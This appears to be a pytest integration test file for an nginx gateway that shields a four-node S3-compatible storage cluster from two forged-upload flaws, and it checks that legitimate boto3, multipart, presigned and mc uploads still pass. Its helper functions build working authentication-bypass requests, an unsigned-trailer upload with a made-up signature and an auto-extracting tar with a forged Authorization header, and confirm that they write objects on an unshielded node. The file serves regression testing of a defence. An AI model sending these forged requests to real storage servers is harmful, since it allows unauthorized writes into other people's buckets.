"""The gateway's shield against the live flaws, on the real 4-node cluster (issue #29).

Each forged upload is sent straight to a node first: it writes the object, so this test can see
the flaw on the pinned build. The same request through the rendered gateway is refused with 403
and writes nothing, and so it is through a gateway rendered without the shield (the planted
defect): it writes there. Meanwhile every legitimate way of uploading passes through the gateway:
boto3 with its defaults over HTTP and over TLS (an unsigned trailer with a signed Authorization
header), a multipart upload, a presigned PUT, and `mc cp`.

The credentials forged with are a service account's access key, which is no secret (a stack
output): the forger knows no secret key.
"""

from __future__ import annotations

import hashlib
import http.client
import io
import tarfile
import urllib.parse
from dataclasses import dataclass
from datetime import UTC, datetime

import boto3
import pytest
from boto3.s3.transfer import TransferConfig
from botocore.config import Config
from botocore.exceptions import ClientError

from components.gateway import FORGED_UPLOAD_BODY, UNSIGNED_TRAILER, render_nginx_conf
from tests.integration.conftest import planted_gateway
from tests.servers import loopback_gateway

pytestmark = pytest.mark.integration

BUCKET = "backups-postgresql"
ACCOUNT = "backup-service"
"""May write BUCKET (its template): what a forgery with its access key can reach."""


@dataclass(frozen=True)
class Forgery:
    """One forged upload: the request, and the object it writes if it gets through."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes
    writes: str


def query_credentials(access_key: str) -> str:
    """Presigned-style credentials with a made-up signature: all an attacker needs is the key."""
    date = datetime.now(UTC)
    return (
        "X-Amz-Algorithm=AWS4-HMAC-SHA256"
        f"&X-Amz-Credential={access_key}%2F{date:%Y%m%d}%2Fus-east-1%2Fs3%2Faws4_request"
        f"&X-Amz-Date={date:%Y%m%dT%H%M%SZ}&X-Amz-Expires=3600&X-Amz-SignedHeaders=host"
        "&X-Amz-Signature=" + "f" * 64
    )


def forged_authorization(access_key: str) -> str:
    date = datetime.now(UTC)
    return (
        f"AWS4-HMAC-SHA256 Credential={access_key}/{date:%Y%m%d}/us-east-1/s3/aws4_request, "
        "SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=" + "0" * 64
    )


def unsigned_trailer_upload(access_key: str, key: str) -> Forgery:
    """CVE-2026-41145: no Authorization header, credentials in the query string."""
    data = f"forged into {key}\n".encode()
    return Forgery(
        "PUT",
        f"/{BUCKET}/{key}?{query_credentials(access_key)}",
        {
            "x-amz-content-sha256": UNSIGNED_TRAILER,
            "x-amz-decoded-content-length": str(len(data)),
            "Content-Encoding": "aws-chunked",
        },
        # The last chunk, then an empty trailer section: MinIO reads up to "\r\n\r\n".
        f"{len(data):x}\r\n".encode() + data + b"\r\n0\r\n\r\n\r\n",
        key,
    )


def snowball_upload(access_key: str, key: str) -> Forgery:
    """CVE-2026-40344: an auto-extracted archive with an unsigned trailer and a forged signature."""
    archive = io.BytesIO()
    data = f"extracted into {key}\n".encode()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        member = tarfile.TarInfo(key)
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    return Forgery(
        "PUT",
        f"/{BUCKET}/archive-{key.replace('/', '-')}.tar",
        {
            "x-amz-content-sha256": UNSIGNED_TRAILER,
            "X-Amz-Meta-Snowball-Auto-Extract": "true",
            "X-Amz-Date": datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ"),
            "Authorization": forged_authorization(access_key),
        },
        archive.getvalue(),
        key,
    )


def send(port: int, forgery: Forgery) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(forgery.method, forgery.path, body=forgery.body, headers=forgery.headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def exists(root_s3, key: str) -> bool:
    try:
        root_s3.head_object(Bucket=BUCKET, Key=key)
    except ClientError as err:
        if err.response["ResponseMetadata"]["HTTPStatusCode"] == 404:
            return False
        raise
    return True


FORGERIES = {"CVE-2026-41145": unsigned_trailer_upload, "CVE-2026-40344": snowball_upload}


@pytest.fixture(scope="module")
def access_key(applied) -> str:
    return applied.service_accounts[ACCOUNT][0]


@pytest.mark.parametrize("flaw", list(FORGERIES))
def test_the_flaw_is_live_on_a_node_and_the_gateway_refuses_it(flaw, cluster, gateway, root_s3, access_key):
    straight = FORGERIES[flaw](access_key, f"forged/{flaw}/straight.txt")
    status, body = send(cluster.nodes[0].port, straight)
    assert status == 200, f"the flaw is not there on the node: {status} {body[:300]!r}"
    assert exists(root_s3, straight.writes), "the node answered 200 but wrote nothing"

    through = FORGERIES[flaw](access_key, f"forged/{flaw}/through-the-gateway.txt")
    status, body = send(gateway.s3_port, through)
    assert (status, body) == (403, FORGED_UPLOAD_BODY.encode())
    assert not exists(root_s3, through.writes)


SHIELD = "if ($s3_forged_upload) {\n            return 403;\n        }\n"


@pytest.mark.parametrize("flaw", list(FORGERIES))
def test_without_the_shield_the_rendered_gateway_lets_the_forgery_write(
    flaw, cluster, node_environment, root_s3, access_key, tmp_path
):
    """The planted defect: the rendered gateway less its shield passes the forgery to a node."""
    assert SHIELD in render_nginx_conf(loopback_gateway(tmp_path, cluster.upstreams)[0])
    forgery = FORGERIES[flaw](access_key, f"forged/{flaw}/unshielded.txt")
    with planted_gateway(cluster, tmp_path / "planted", node_environment, SHIELD, "", "unshielded") as client:
        endpoint = client.meta.endpoint_url
        status, _ = send(int(endpoint.rsplit(":", 1)[1]), forgery)
    assert status == 200 and exists(root_s3, forgery.writes)


# --- what must keep working ------------------------------------------------------------------------


def recording_payload_types(client) -> list[str]:
    """The x-amz-content-sha256 of every request the client sends, as it sends it."""
    seen: list[str] = []
    client.meta.events.register(
        "before-send.s3", lambda request, **_: seen.append(request.headers.get("x-amz-content-sha256", b""))
    )
    return seen


def default_client(endpoint: str, access_key: str, secret_key: str, verify: str | bool = True):
    """boto3 as an application builds it: default checksum and signing behaviour."""
    return boto3.client(
        "s3",
        endpoint_url=endpoint,
        region_name="us-east-1",
        aws_access_key_id=access_key,
        aws_secret_access_key=secret_key,
        verify=verify,
        config=Config(s3={"addressing_style": "path"}),
    )


def test_boto3_defaults_upload_through_the_shield_over_http(gateway, applied, root_s3):
    access_key, secret_key = applied.service_accounts[ACCOUNT]
    client = default_client(gateway.s3_endpoint, access_key, secret_key)
    sent = recording_payload_types(client)
    client.put_object(Bucket=BUCKET, Key="legit/http.txt", Body=b"boto3 over http\n")
    payload = b"m" * (12 * 1024 * 1024)
    client.upload_fileobj(
        io.BytesIO(payload), BUCKET, "legit/http-multipart.bin",
        Config=TransferConfig(multipart_threshold=5 * 1024 * 1024, multipart_chunksize=5 * 1024 * 1024),
    )  # fmt: skip
    assert root_s3.get_object(Bucket=BUCKET, Key="legit/http.txt")["Body"].read() == b"boto3 over http\n"
    got = root_s3.get_object(Bucket=BUCKET, Key="legit/http-multipart.bin")["Body"].read()
    assert hashlib.sha256(got).digest() == hashlib.sha256(payload).digest()
    assert sent, "no request was recorded"


def test_boto3_defaults_over_tls_send_an_unsigned_trailer_and_pass(tls_gateway, cluster, applied, root_s3):
    """The shape the shield looks at, sent legitimately: AWS SDKs over HTTPS stream an unsigned
    payload with a checksum trailer, and sign the headers."""
    endpoint, ca = tls_gateway
    access_key, secret_key = applied.service_accounts[ACCOUNT]
    client = default_client(endpoint, access_key, secret_key, verify=str(ca))
    sent = recording_payload_types(client)
    client.put_object(Bucket=BUCKET, Key="legit/tls.txt", Body=b"boto3 over tls\n")
    payload = b"t" * (11 * 1024 * 1024)
    client.upload_fileobj(
        io.BytesIO(payload), BUCKET, "legit/tls-multipart.bin",
        Config=TransferConfig(multipart_threshold=5 * 1024 * 1024, multipart_chunksize=5 * 1024 * 1024),
    )  # fmt: skip
    assert UNSIGNED_TRAILER.encode() in sent, f"boto3 sent no unsigned trailer over TLS: {sent}"
    assert root_s3.get_object(Bucket=BUCKET, Key="legit/tls.txt")["Body"].read() == b"boto3 over tls\n"
    got = root_s3.get_object(Bucket=BUCKET, Key="legit/tls-multipart.bin")["Body"].read()
    assert hashlib.sha256(got).digest() == hashlib.sha256(payload).digest()


@pytest.mark.parametrize("signature", ["default", "s3v4"])
def test_a_presigned_put_passes(signature, gateway, applied, root_s3):
    """boto3's default presigner (SigV2 here) and SigV4, sent as a browser or curl would: a bare
    PUT of the body, no payload-type header."""
    access_key, secret_key = applied.service_accounts[ACCOUNT]
    signing = {"signature_version": "s3v4"} if signature == "s3v4" else {}
    client = boto3.client(
        "s3", endpoint_url=gateway.s3_endpoint, region_name="us-east-1", aws_access_key_id=access_key,
        aws_secret_access_key=secret_key, config=Config(s3={"addressing_style": "path"}, **signing),
    )  # fmt: skip
    key = f"legit/presigned-{signature}.txt"
    url = urllib.parse.urlsplit(
        client.generate_presigned_url("put_object", Params={"Bucket": BUCKET, "Key": key})
    )
    connection = http.client.HTTPConnection("127.0.0.1", gateway.s3_port, timeout=30)
    try:
        connection.request("PUT", f"{url.path}?{url.query}", body=b"presigned\n")
        answer = connection.getresponse()
        assert answer.status == 200, answer.read()[:400]
    finally:
        connection.close()
    assert root_s3.get_object(Bucket=BUCKET, Key=key)["Body"].read() == b"presigned\n"


def test_mc_cp_passes(root_mc, root_s3, tmp_path):
    source = tmp_path / "mc.txt"
    source.write_bytes(b"copied by mc\n")
    root_mc.run("cp", str(source), f"target/{BUCKET}/legit/mc.txt")
    assert root_s3.get_object(Bucket=BUCKET, Key="legit/mc.txt")["Body"].read() == b"copied by mc\n"
